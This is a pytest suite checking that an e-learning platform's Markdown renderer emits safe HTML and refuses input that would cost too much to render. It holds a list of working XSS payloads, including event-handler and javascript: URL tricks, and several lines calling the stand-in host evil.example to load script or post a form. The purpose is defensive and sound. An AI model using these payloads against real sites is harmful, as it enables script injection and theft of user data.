"""Markdown in, safe HTML out: nothing that acts or loads survives, nothing takes too long."""

from __future__ import annotations

import re
import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest

from elearn import markup
from elearn.markup import Media, NoLinks, TooCostly, render, render_inline

FILE = "/files/" + "a" * 64


class Links:
    """A course with a picture, a video and one lesson."""

    def link(self, address: str) -> str:
        if address.startswith(("https://", "mailto:")):
            return address
        return "/courses/c/lessons/dua" if address == "02-dua.md" else ""

    def media(self, address: str) -> Media | None:
        return {
            "a.svg": Media(f"{FILE}/a.svg", "image/svg+xml", 640, 300),
            "a.mp4": Media(f"{FILE}/a.mp4", "video/mp4", 0, 0, f"{FILE}/a.vtt"),
        }.get(address)


def html(text: str, base: int = 1) -> str:
    return render(text, heading_base=base, prefix="t", links=Links())


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a.png 2x' src=/files/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action=//evil.example><input name=nip><button>Kirim</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](a.svg "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](a.svg)',
    "<javascript:alert(1)>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video src=//evil.example/x.mp4 autoplay onplay=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=login class='btn nav' data-print>x</div>",
    "<p id=current_user>x</p>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<b <script>alert(1)</script>0",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> [!PENTING] <img src=x onerror=alert(1)>\n> isi",
    "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=a> | <a href=javascript:b>c</a> |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "istilah\n:   <svg/onload=alert(1)>",
    "<a class='footnote-ref btn' target=_blank href='https://a.example' ping=//evil.example>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


class Inspector(HTMLParser):
    """Notes everything on a page that could act, load or pretend."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in markup.TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if self.is_bad(name, value or ""):
                self.bad.append(f"{tag} {name}={value}")

    def is_bad(self, name: str, value: str) -> bool:
        if name.startswith(("on", "data-")) or name in ("style", "target", "srcset", "ping"):
            return True
        if name == "src":
            return not value.startswith("/files/")
        if name == "href":
            return not value.startswith(("https://", "http://", "mailto:", "/courses/", "#c-"))
        return name == "id" and not value.startswith("c-")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_or_loads_survives(attack: str) -> None:
    for rendered in (html(attack), html(f"teks {attack} teks"), html(f"- {attack}\n- b")):
        inspector = Inspector()
        inspector.feed(rendered)
        assert inspector.bad == []
        assert not re.search(r"<script|<style|<iframe|javascript:[^<]*['\"]", rendered, re.I)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = html(attack)
    assert markup.clean(once) == once


def test_a_callout_has_its_label() -> None:
    assert html("> [!PENTING]\n> Isi **penting**.") == (
        '<div class="note penting" role="note">\n<p class="note-title">Penting</p>\n'
        "<p>Isi <strong>penting</strong>.</p>\n</div>"
    )


@pytest.mark.parametrize(
    ("word", "name"),
    [
        ("CATATAN", "catatan"),
        ("NOTE", "catatan"),
        ("IMPORTANT", "penting"),
        ("CONTOH", "contoh"),
        ("EXAMPLE", "contoh"),
        ("PERHATIAN", "perhatian"),
        ("warning", "perhatian"),
    ],
)
def test_callouts_have_synonyms(word: str, name: str) -> None:
    assert f'class="note {name}"' in html(f"> [!{word}] isi")


def test_neighbouring_callouts_are_boxes_of_their_own() -> None:
    rendered = html("> [!PENTING]\n> a\n\n> [!CONTOH]\n> b\n\n> kutipan")
    assert rendered.count('role="note"') == 2
    assert "<blockquote>\n<p>kutipan</p>\n</blockquote>" in rendered


def test_a_list_needs_no_blank_line_before_it() -> None:
    assert html("Bawa:\n- kartu\n- surat") == (
        "<p>Bawa:</p>\n<ul>\n<li>kartu</li>\n<li>surat</li>\n</ul>"
    )
    assert "<ul>" in html("> [!CONTOH]\n> Bawa:\n> - kartu")


def test_a_picture_says_its_size_and_waits_to_be_seen() -> None:
    assert html("![Alur aduan](a.svg)") == (
        f'<p><img alt="Alur aduan" height="300" loading="lazy" src="{FILE}/a.svg" width="640"></p>'
    )


def test_a_picture_has_a_caption_only_where_a_title_is_given() -> None:
    rendered = html('![Alur](a.svg "Alur aduan")')
    assert rendered.startswith("<figure><img")
    assert "<figcaption>Alur aduan</figcaption>" in rendered


def test_a_video_loads_nothing_by_itself_and_has_captions() -> None:
    rendered = html("![Cara melapor](a.mp4)")
    assert rendered.startswith('<video aria-label="Cara melapor" controls="" preload="none">')
    assert f'<track kind="captions" label="Indonesia" src="{FILE}/a.vtt" srclang="id">' in rendered


def test_an_outside_video_is_only_a_link() -> None:
    rendered = html("![Tonton](https://www.youtube.com/watch?v=1)")
    assert rendered == (
        '<p class="video-card"><a class="video-link" href="https://www.youtube.com/watch?v=1"'
        ' rel="noopener noreferrer">Tonton <span class="host">youtube.com</span></a></p>'
    )


def test_a_table_scrolls_by_itself_and_aligns_by_class() -> None:
    rendered = html("| Kanal | Hari |\n|---|--:|\n| Loket | 1 |")
    assert rendered.startswith('<div aria-label="Tabel: Kanal, Hari" class="scroll" role="region"')
    assert '<th class="right" scope="col">Hari</th>' in rendered
    assert '<td class="right">1</td>' in rendered
    assert "style" not in rendered


def test_headings_shift_and_carry_prefixed_ids() -> None:
    assert html("## Dari mana?\n\n## Dari mana?") == (
        '<h2 id="c-t-dari-mana">Dari mana?</h2>\n<h2 id="c-t-dari-mana-2">Dari mana?</h2>'
    )
    assert html("# A", base=4).startswith("<h4")
    assert html("###### A", base=4).startswith("<h6")
    assert html("# A").startswith("<h2")


def test_footnotes_of_two_pieces_do_not_share_ids() -> None:
    ids = [
        set(re.findall(r'id="([^"]+)"', html(f"{word}[^1]\n\n[^1]: Catatan.")))
        for word in ("a", "b")
    ]
    assert all(ids)
    assert not ids[0] & ids[1]


def test_every_anchor_leads_to_an_id_on_the_page() -> None:
    rendered = html("## Bagian satu\n\n[ke sana](#bagian-satu) a[^x]\n\n[^x]: b")
    anchors = set(re.findall(r'href="#([^"]+)"', rendered))
    assert anchors <= set(re.findall(r'id="([^"]+)"', rendered))


def test_links_lead_where_the_course_says() -> None:
    assert html("[dua](02-dua.md) [hilang](03.md)") == (
        '<p><a href="/courses/c/lessons/dua">dua</a> <a>hilang</a></p>'
    )


def test_definition_lists_and_code() -> None:
    assert html("istilah\n:   arti") == "<dl>\n<dt>istilah</dt>\n<dd>arti</dd>\n</dl>"
    assert html("```\na < b\n```") == "<pre><code>a &lt; b\n</code></pre>"


def test_inline_text_has_no_paragraph_around_it() -> None:
    assert render_inline("a *b*", prefix="t", links=NoLinks()) == "a <em>b</em>"
    assert render_inline("20 JP & lebih", prefix="t", links=NoLinks()) == "20 JP &amp; lebih"
    assert render_inline("a\n\nb", prefix="t", links=NoLinks()) == "<p>a</p>\n<p>b</p>"


@pytest.mark.parametrize(
    "text", ["Sudah dicatat.", "Berapa JP (paling sedikit)?", "é, ü – “x”", "20 JP", "- x", "a: b"]
)
def test_plain_words_take_the_same_way_as_all_others(text: str) -> None:
    by_the_long_way = html(text + "\n\n**x**").removesuffix("<p><strong>x</strong></p>").strip()
    assert html(text) == by_the_long_way


def test_words_of_html() -> None:
    assert markup.plain("<p>a&amp;b <em>c</em></p><p>d</p>") == "a&b c d"


RUNS = (
    "[", "![", "<![", "<!", "<", "*", "**", "_", "`", "``a", "* ", "- ", "1. ", "> ", "](", "[a](",
    "[a][", "<x ", "&", "|", "a|", "---\n", "a\n=\n", "[^a]", "<!--", "- a\n    ", "> - ", "\\",
)  # fmt: skip


@pytest.mark.parametrize("run", RUNS)
@pytest.mark.parametrize("size", [2_000, 10_000, 60_000])
def test_no_run_of_signs_takes_long(run: str, size: int) -> None:
    begun = time.process_time()
    with suppress(TooCostly):
        html((run * size)[:size])
    assert time.process_time() - begun < 4


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("[" * 10_000, 1),
        ("teks\n\n" + "[" * 300, 3),
        ("teks\n\n" + "<![" * 3_000, 3),
        ("teks\n\n" + "- " * 500 + "a", 3),
        ("teks\n\n" + "1. " * 500 + "a", 3),
        ("teks\n\nlagi\n\n" + "a" * 30_000, 5),
        ("kata *x*\n\n" * 25_000, 1),
        ("teks\n\n" + "A & B, C & D\n\n" * 2_001, 3),
        (("# a\n" * 50 + "\n") * 240, 12_000),
    ],
)
def test_what_would_cost_too_much_is_refused_with_its_line(text: str, line: int) -> None:
    with pytest.raises(TooCostly) as refused:
        html(text)
    assert refused.value.line == line


def test_many_headings_of_one_name_are_told_apart_in_time() -> None:
    begun = time.process_time()
    shown = html(("# a\n" * 50 + "\n") * 60)
    assert len(set(re.findall(r' id="([^"]+)"', shown))) == 3_000
    assert time.process_time() - begun < 1.5


def test_an_honest_long_lesson_is_not_refused() -> None:
    text = "\n\n".join(f"## Bagian {n}\n\n" + "Kalimat yang wajar. " * 40 for n in range(60))
    assert html(text).count("<h2") == 60
